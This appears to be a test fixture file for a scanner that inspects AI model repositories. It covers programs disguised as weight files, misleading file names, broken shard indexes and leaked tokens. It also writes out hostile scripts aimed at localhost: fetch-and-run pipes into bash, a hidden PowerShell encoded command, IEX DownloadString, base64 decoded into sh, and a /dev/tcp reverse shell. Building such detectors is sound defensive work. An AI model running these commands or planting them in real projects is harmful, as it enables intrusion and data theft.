import { credential } from '../../../src/core/secrets.fixture.ts';
import { PROGRAMS } from '../../../src/formats/executable/write.fixture.ts';
import { writeLfsPointer } from '../../../src/formats/lfs-pointer/write.fixture.ts';
import { op } from '../../../src/formats/pickle/assemble.fixture.ts';
import { writeSafetensors } from '../../../src/formats/safetensors/write.fixture.ts';
import { writeShardIndex } from '../../../src/formats/shard-index/write.fixture.ts';
import { writeZip } from '../../../src/formats/zip/write.fixture.ts';
import type { DetectCase } from '../case.ts';
import { type Files, program2, stateDict, text, torchZip, trick } from './make.ts';

const { files } = trick('repository');
const repository = (name: string, title: string, more: () => Files, reference?: string): DetectCase =>
  files('repository', name, title, () => ({ 'config.json': text('{"model_type": "llama"}'), ...more() }), reference);
const tensors = (count: number): Uint8Array =>
  writeSafetensors({ tensors: count === 0 ? [] : [{ name: 'w', dtype: 'U8', shape: [count], bytes: count }] });
const ENCODED = Buffer.from('echo harmless', 'utf16le').toString('base64');
const checkpoint = (): Uint8Array => torchZip(program2(stateDict()));

/** What only the repository as a whole shows. */
export const repositoryCases: readonly DetectCase[] = [
  repository('elf-as-weights', 'A program for Linux called model.safetensors', () => ({
    'model.safetensors': PROGRAMS.elf(),
  })),
  repository('elf-as-bin', 'A native library called pytorch_model.bin', () => ({
    'pytorch_model.bin': PROGRAMS.elfLibrary(),
  })),
  repository('pe-as-picture', 'A program for Windows called preview.png', () => ({
    'assets/preview.png': PROGRAMS.pe(),
  })),
  repository('mach-o-as-onnx', 'A program for macOS called model.onnx', () => ({
    'onnx/model.onnx': PROGRAMS.machO(),
  })),
  repository('ape-as-gguf', 'A program for several systems called model.gguf', () => ({
    'model.gguf': PROGRAMS.ape(),
  })),
  repository('script-as-weights', 'A shell script called weights.pt', () => ({ 'weights.pt': PROGRAMS.script() })),
  repository('script-as-json', 'A shell script called tokenizer_config.json', () => ({
    'tokenizer_config.json': PROGRAMS.script(),
  })),
  repository('ole-as-text', 'An Office document called notes.txt', () => ({ 'notes.txt': PROGRAMS.ole() })),
  repository('bytecode', 'Compiled Python without its source, where Python imports it', () => ({
    'modeling_custom.pyc': PROGRAMS.pythonBytecode(),
  })),
  repository('library', 'A native library that the card asks to preload', () => ({
    'README.md': text('Run with LD_PRELOAD=./libfast.so for speed.\n'),
    'libfast.so': PROGRAMS.elfLibrary(),
  })),
  repository('windows-library', 'A Windows library beside the weights, which a program finds first', () => ({
    'version.dll': PROGRAMS.peLibrary(),
    'model.safetensors': tensors(8),
  })),
  repository('shortcut', 'A shortcut that opens something', () => ({ 'README.lnk': PROGRAMS.shortcut() })),
  repository('java', 'Java bytecode in an archive', () => ({
    'handler.jar': writeZip({ members: [{ name: 'Handler.class', data: PROGRAMS.javaClass(), method: 8 }] }),
  })),
  repository('library-in-zip', 'A native library in an archive of assets', () => ({
    'assets.zip': writeZip({ members: [{ name: 'lib/x.so', data: PROGRAMS.elfLibrary(), method: 8 }] }),
  })),
  repository('vbs', 'A script that Windows starts by a double click', () => ({
    'install.vbs': text('WScript.Echo "harmless"\r\n'),
  })),
  repository('pointer-with-tail', 'A Git LFS pointer with Python behind it', () => ({
    'pytorch_model.bin': Buffer.concat([writeLfsPointer(), text('import os\n')]),
  })),
  repository('pointer-without-size', 'A text that begins like a Git LFS pointer', () => ({
    'model.safetensors': text('version https://git-lfs.github.com/spec/v1\noid md5:1\n'),
  })),
  repository('empty-safetensors', 'A safetensors without tensors beside a pickle', () => ({
    'model.safetensors': tensors(0),
    'pytorch_model.bin': checkpoint(),
  })),
  repository('unlike-weights', 'Adapter weights of quite another size than the pickle beside them', () => ({
    'adapter_model.safetensors': tensors(1_500_000),
    'adapter_model.bin': checkpoint(),
  })),
  repository('reordered-name', 'A name that reads backwards', () => ({ 'model-\u202enib.tp': text('x') })),
  repository('invisible-name', 'A second configuration with an invisible character in its name', () => ({
    'config\u200b.json': text('{"auto_map": {}}'),
  })),
  repository('two-spellings', 'Two configurations that are one on Windows and macOS', () => ({
    'Config.json': text('{"model_type": "other"}'),
  })),
  repository('missing-shards', 'An index of pickles whose second shard is not there', () => ({
    'pytorch_model.bin.index.json': writeShardIndex({
      map: [
        ['layer.weight', 'pytorch_model-00001-of-00002.bin'],
        ['layer.bias', 'pytorch_model-00002-of-00002.bin'],
      ],
    }),
    'pytorch_model-00001-of-00002.bin': checkpoint(),
  })),
  repository('stray-shard', 'A shard of a pickle that the index does not know', () => ({
    'pytorch_model.bin.index.json': writeShardIndex({ map: [['layer.weight', 'pytorch_model-00001-of-00001.bin']] }),
    'pytorch_model-00001-of-00001.bin': checkpoint(),
    'pytorch_model-00002-of-00001.bin': checkpoint(),
  })),
  repository('shard-elsewhere', 'An index that leads out of the folder', () => ({
    'model.safetensors.index.json': writeShardIndex({ map: [['w', '../../other/model.safetensors']] }),
  })),
  repository('token-in-arguments', 'The access token of its owner in pickled training arguments', () => ({
    'training_args.bin': program2(
      op.emptyDict,
      op.mark,
      op.str('hub_token'),
      op.str(credential('huggingface', 21)),
      op.setitems,
    ),
  })),
  repository('keys-in-environment', 'Cloud keys and a private key', () => ({
    '.env': text(`AWS_ACCESS_KEY_ID=${credential('aws', 4)}\n${credential('aws-secret', 4)}\n`),
    'deploy.pem': text(`${credential('pem', 4)}\n`),
  })),
  repository('fetch-and-run', 'A script that fetches another one and runs it', () => ({
    'install.sh': text('#!/usr/bin/env bash\nset -e\nwget -qO- http://127.0.0.1/setup \\\n  | sudo bash\n'),
  })),
  repository('fetch-substituted', 'The same without a pipe', () => ({
    'run.sh': text('#!/bin/bash\nbash -c "$(curl -fsSL http://127.0.0.1/setup)"\n'),
  })),
  repository('encoded-command', 'A batch file that runs an encoded command', () => ({
    'start.cmd': text(`@echo off\r\npowershell.exe -NoP -W Hidden -EncodedCommand ${ENCODED}\r\n`),
  })),
  repository('download-string', 'PowerShell that evaluates what an address answers, written as UTF-16', () => ({
    'setup.ps1': new Uint8Array(
      Buffer.from("\ufeffIEX (New-Object Net.WebClient).DownloadString('http://127.0.0.1/x')\r\n", 'utf16le'),
    ),
  })),
  repository('decoded-command', 'A script that runs what base64 hides', () => ({
    'prepare.sh': text(`#!/bin/sh\necho ${Buffer.from('echo harmless').toString('base64')} | base64 -d | sh\n`),
  })),
  repository('remote-shell', 'A script that hands its shell to another machine', () => ({
    'train.sh': text('#!/bin/bash\npython train.py\nbash -i >& /dev/tcp/127.0.0.1/9 0>&1\n'),
  })),
];
